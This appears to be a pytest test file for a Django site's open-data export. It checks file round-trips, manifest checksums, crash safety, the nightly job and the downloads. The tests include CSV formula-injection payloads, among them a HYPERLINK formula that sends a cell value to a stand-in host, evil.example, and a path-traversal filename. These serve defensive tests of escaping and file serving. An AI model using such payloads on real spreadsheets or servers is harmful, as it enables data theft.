"""The open-data export: files that round-trip, a manifest whose checksums match, atomic
replacement, the nightly job, and the page and downloads."""

from __future__ import annotations

import csv
import datetime as dt
import gzip
import hashlib
import io
import json
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from moot.api.opendata import datasets
from moot.api.opendata.export import open_data_export, open_data_export_due
from moot.api.opendata.files import open_data_manifest
from moot.core.background import registered_jobs
from tests.api.conftest import SITE, World
from tests.factories import WrittenQuestionFactory

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _open_data_dir(settings: Any, tmp_path: Path) -> Path:
    settings.OPEN_DATA_DIR = tmp_path / "open-data"
    return settings.OPEN_DATA_DIR


def read_jsonl(path: Path) -> list[dict[str, Any]]:
    with gzip.open(path, "rt", encoding="utf-8") as handle:
        return [json.loads(line) for line in handle]


def read_csv(path: Path) -> list[dict[str, str]]:
    with gzip.open(path, "rt", encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def current_folder(root: Path) -> Path:
    return root / "exports" / (root / "CURRENT").read_text()


def test_export_round_trips_every_dataset(world: World, settings: Any) -> None:
    manifest = open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    names = {entry["name"] for entry in manifest["files"]}
    for dataset in datasets.DATASETS:
        assert f"{dataset.name}.jsonl.gz" in names
        assert f"{dataset.name}.csv.gz" in names
    questions = read_jsonl(folder / "questions.jsonl.gz")
    assert [q["key"] for q in questions] == [
        "2008-03-04/hl1234",
        "2009-10-27/295019",
        "2009-10-27/295020",
        "2009-11-02/300001",
    ]
    first = questions[1]
    assert first["question_numbers"] == ["295019"]
    assert first["department_slug"] == "dcsf"
    assert first["is_answered"] is True
    assert first["html_url"] == f"{SITE}/written-questions/2009-10-27/295019/"
    [answer] = read_jsonl(folder / "answers.jsonl.gz")
    assert answer["question_keys"] == ["2009-10-27/295019", "2009-10-27/295020"]
    assert answer["body_text"] == "Guidance was published in 2009."
    # The CSV has the same rows and columns, lists joined.
    csv_questions = read_csv(folder / "questions.csv.gz")
    assert list(csv_questions[0]) == list(questions[0])
    assert [row["key"] for row in csv_questions] == [q["key"] for q in questions]
    assert read_csv(folder / "answers.csv.gz")[0]["question_keys"] == (
        "2009-10-27/295019; 2009-10-27/295020"
    )
    assert csv_questions[1]["is_answered"] == "true"
    assert csv_questions[0]["date_tabled"] == ""


FORMULA_HEADINGS = [
    '=HYPERLINK("https://evil.example/?d="&A1, "Schools")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTabbed: heading",
    "\rReturned: heading",
]


def test_csv_cells_that_could_run_as_formulas_go_out_as_text(settings: Any, db: None) -> None:
    for number, heading in enumerate(FORMULA_HEADINGS):
        WrittenQuestionFactory(heading=heading, identifier=f"formula-{number}")
    WrittenQuestionFactory(heading="Schools: Meals", identifier="plain")
    open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    by_identifier = {row["identifier"]: row for row in read_csv(folder / "questions.csv.gz")}
    for number, heading in enumerate(FORMULA_HEADINGS):
        assert by_identifier[f"formula-{number}"]["heading"] == f"'{heading}"
    assert by_identifier["plain"]["heading"] == "Schools: Meals"
    assert by_identifier["plain"]["date"] == "2007-12-03"  # dates and numbers as they were
    # The JSON Lines file is not opened by spreadsheets: it keeps the text as it is.
    in_json = {
        row["identifier"]: row["heading"] for row in read_jsonl(folder / "questions.jsonl.gz")
    }
    assert [in_json[f"formula-{n}"] for n in range(len(FORMULA_HEADINGS))] == FORMULA_HEADINGS


def test_export_holds_public_records_only(world: World, settings: Any) -> None:
    open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    everything = "".join(
        gzip.decompress(path.read_bytes()).decode() for path in folder.glob("*.gz")
    )
    assert "secret-draft" not in everything
    assert "Draft section" not in everything
    assert "Draft summary" not in everything
    consultations = read_jsonl(folder / "consultations.jsonl.gz")
    assert [c["slug"] for c in consultations] == ["school-meals", "safeguarding-children"]
    [summary] = read_jsonl(folder / "summaries_of_responses.jsonl.gz")
    assert summary["consultation_slug"] == "school-meals"
    assert {a["title"] for a in read_jsonl(folder / "attachments.jsonl.gz")} == {
        "Consultation document",
        "Guidance (PDF)",
    }


def test_manifest_counts_sizes_and_checksums_match_the_files(world: World, settings: Any) -> None:
    manifest = open_data_export()
    folder = current_folder(settings.OPEN_DATA_DIR)
    on_disk = json.loads((folder / "manifest.json").read_text())
    assert on_disk["schema_version"] == 1
    assert on_disk["files"] == manifest["files"]
    for entry in manifest["files"]:
        data = (folder / entry["name"]).read_bytes()
        assert entry["bytes"] == len(data)
        assert entry["sha256"] == hashlib.sha256(data).hexdigest()
        reader = read_jsonl if entry["format"] == "jsonl" else read_csv
        assert entry["rows"] == len(reader(folder / entry["name"]))
    licences = {e["dataset"]: e["licence"]["name"] for e in manifest["files"]}
    assert licences["questions"] == "Open Parliament Licence v3.0"
    assert licences["consultations"] == "Open Government Licence v3.0"


def test_same_data_gives_the_same_bytes(world: World) -> None:
    first = {e["name"]: e["sha256"] for e in open_data_export()["files"]}
    second = {e["name"]: e["sha256"] for e in open_data_export()["files"]}
    assert first == second


def test_a_crash_mid_export_leaves_the_previous_export_intact(
    world: World, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = open_data_export()
    root = settings.OPEN_DATA_DIR
    folder = current_folder(root)

    def failing() -> Any:
        yield {"consultation_slug": "x", "position": 1, "kind": "other", "heading": "", "body": ""}
        raise OSError("disk full")

    broken = [
        d
        if d.name != "consultation_sections"
        else datasets.Dataset(d.name, d.title, d.licence, d.columns, failing)
        for d in datasets.DATASETS
    ]
    monkeypatch.setattr("moot.api.opendata.export.DATASETS", tuple(broken))
    with pytest.raises(OSError, match="disk full"):
        open_data_export()
    assert current_folder(root) == folder
    assert open_data_manifest()["generated_at"] == before["generated_at"]
    for entry in before["files"]:
        data = (folder / entry["name"]).read_bytes()
        assert hashlib.sha256(data).hexdigest() == entry["sha256"]
    assert [p.name for p in (root / "exports").iterdir()] == [folder.name]


def test_keeps_the_current_and_previous_exports_only(world: World, settings: Any) -> None:
    root = settings.OPEN_DATA_DIR
    names = []
    for _ in range(3):
        open_data_export()
        names.append((root / "CURRENT").read_text())
    assert sorted(p.name for p in (root / "exports").iterdir()) == sorted(names[1:])


def test_command_writes_to_the_folder_given(world: World, tmp_path: Path) -> None:
    out = io.StringIO()
    call_command("export_open_data", "--output", str(tmp_path / "elsewhere"), stdout=out)
    assert "questions.jsonl.gz: 4 rows" in out.getvalue()
    assert open_data_manifest(root=tmp_path / "elsewhere") is not None


def test_nightly_job_is_registered_and_runs_once_a_night(world: World, settings: Any) -> None:
    [job] = [job for job in registered_jobs() if job.name == "api.open-data-export"]
    assert job.scope == "cluster"
    settings.OPEN_DATA_EXPORT_HOUR = 2
    assert open_data_export_due()  # nothing exported yet
    job.run()
    generated = dt.datetime.fromisoformat(open_data_manifest()["generated_at"])
    local = timezone.localtime(generated)
    next_slot = (local + dt.timedelta(days=1)).replace(hour=2, minute=0, second=0, microsecond=0)
    if local.hour < 2:
        next_slot -= dt.timedelta(days=1)
    assert not open_data_export_due(now=next_slot - dt.timedelta(minutes=1))
    assert open_data_export_due(now=next_slot + dt.timedelta(minutes=1))


# The page and the downloads --------------------------------------------------------------


def test_page_before_the_first_export(client: Client, db: None) -> None:
    page = client.get(reverse("api:open_data"))
    assert page.status_code == 200
    assert "The first export has not been made yet" in page.content.decode()
    response = client.get("/api/v1/open-data/")
    assert response.status_code == 404
    assert response["Content-Type"] == "application/problem+json"


def test_page_lists_files_with_sizes_checksums_and_licences(client: Client, world: World) -> None:
    manifest = open_data_export()
    page = client.get(reverse("api:open_data")).content.decode()
    assert page.count('data-testid="open-data-file"') == len(manifest["files"])
    questions = next(e for e in manifest["files"] if e["name"] == "questions.csv.gz")
    assert questions["sha256"] in page
    assert "Written questions (CSV)" in page
    assert "Open Parliament Licence v3.0" in page
    assert "Open Government Licence v3.0" in page


def test_downloads_are_the_exported_files(client: Client, world: World) -> None:
    manifest = open_data_export()
    entry = next(e for e in manifest["files"] if e["name"] == "members.jsonl.gz")
    response = client.get(reverse("api:open_data_file", args=["members.jsonl.gz"]))
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    assert hashlib.sha256(data).hexdigest() == entry["sha256"]
    assert response["Content-Type"] == "application/gzip"
    assert response["ETag"] == f'"{entry["sha256"]}"'
    assert "attachment" in response["Content-Disposition"]
    again = client.get(
        reverse("api:open_data_file", args=["members.jsonl.gz"]),
        headers={"if-none-match": response["ETag"]},
    )
    assert again.status_code == 304
    manifest_file = client.get(reverse("api:open_data_file", args=["manifest.json"]))
    assert json.loads(b"".join(manifest_file.streaming_content))["files"] == manifest["files"]


@pytest.mark.parametrize("name", ["nothing.csv.gz", "..%2FCURRENT", ".export.lock", "CURRENT"])
def test_only_listed_files_are_served(client: Client, world: World, name: str) -> None:
    open_data_export()
    assert client.get(f"/open-data/{name}").status_code == 404


def test_api_lists_the_downloads(client: Client, world: World) -> None:
    manifest = open_data_export()
    response = client.get("/api/v1/open-data/")
    assert response.status_code == 200
    body = response.json()
    assert body["generated_at"] == manifest["generated_at"]
    first = body["files"][0]
    assert first["download_url"] == f"{SITE}/open-data/{first['name']}"
    assert body["manifest_url"] == f"{SITE}/open-data/manifest.json"
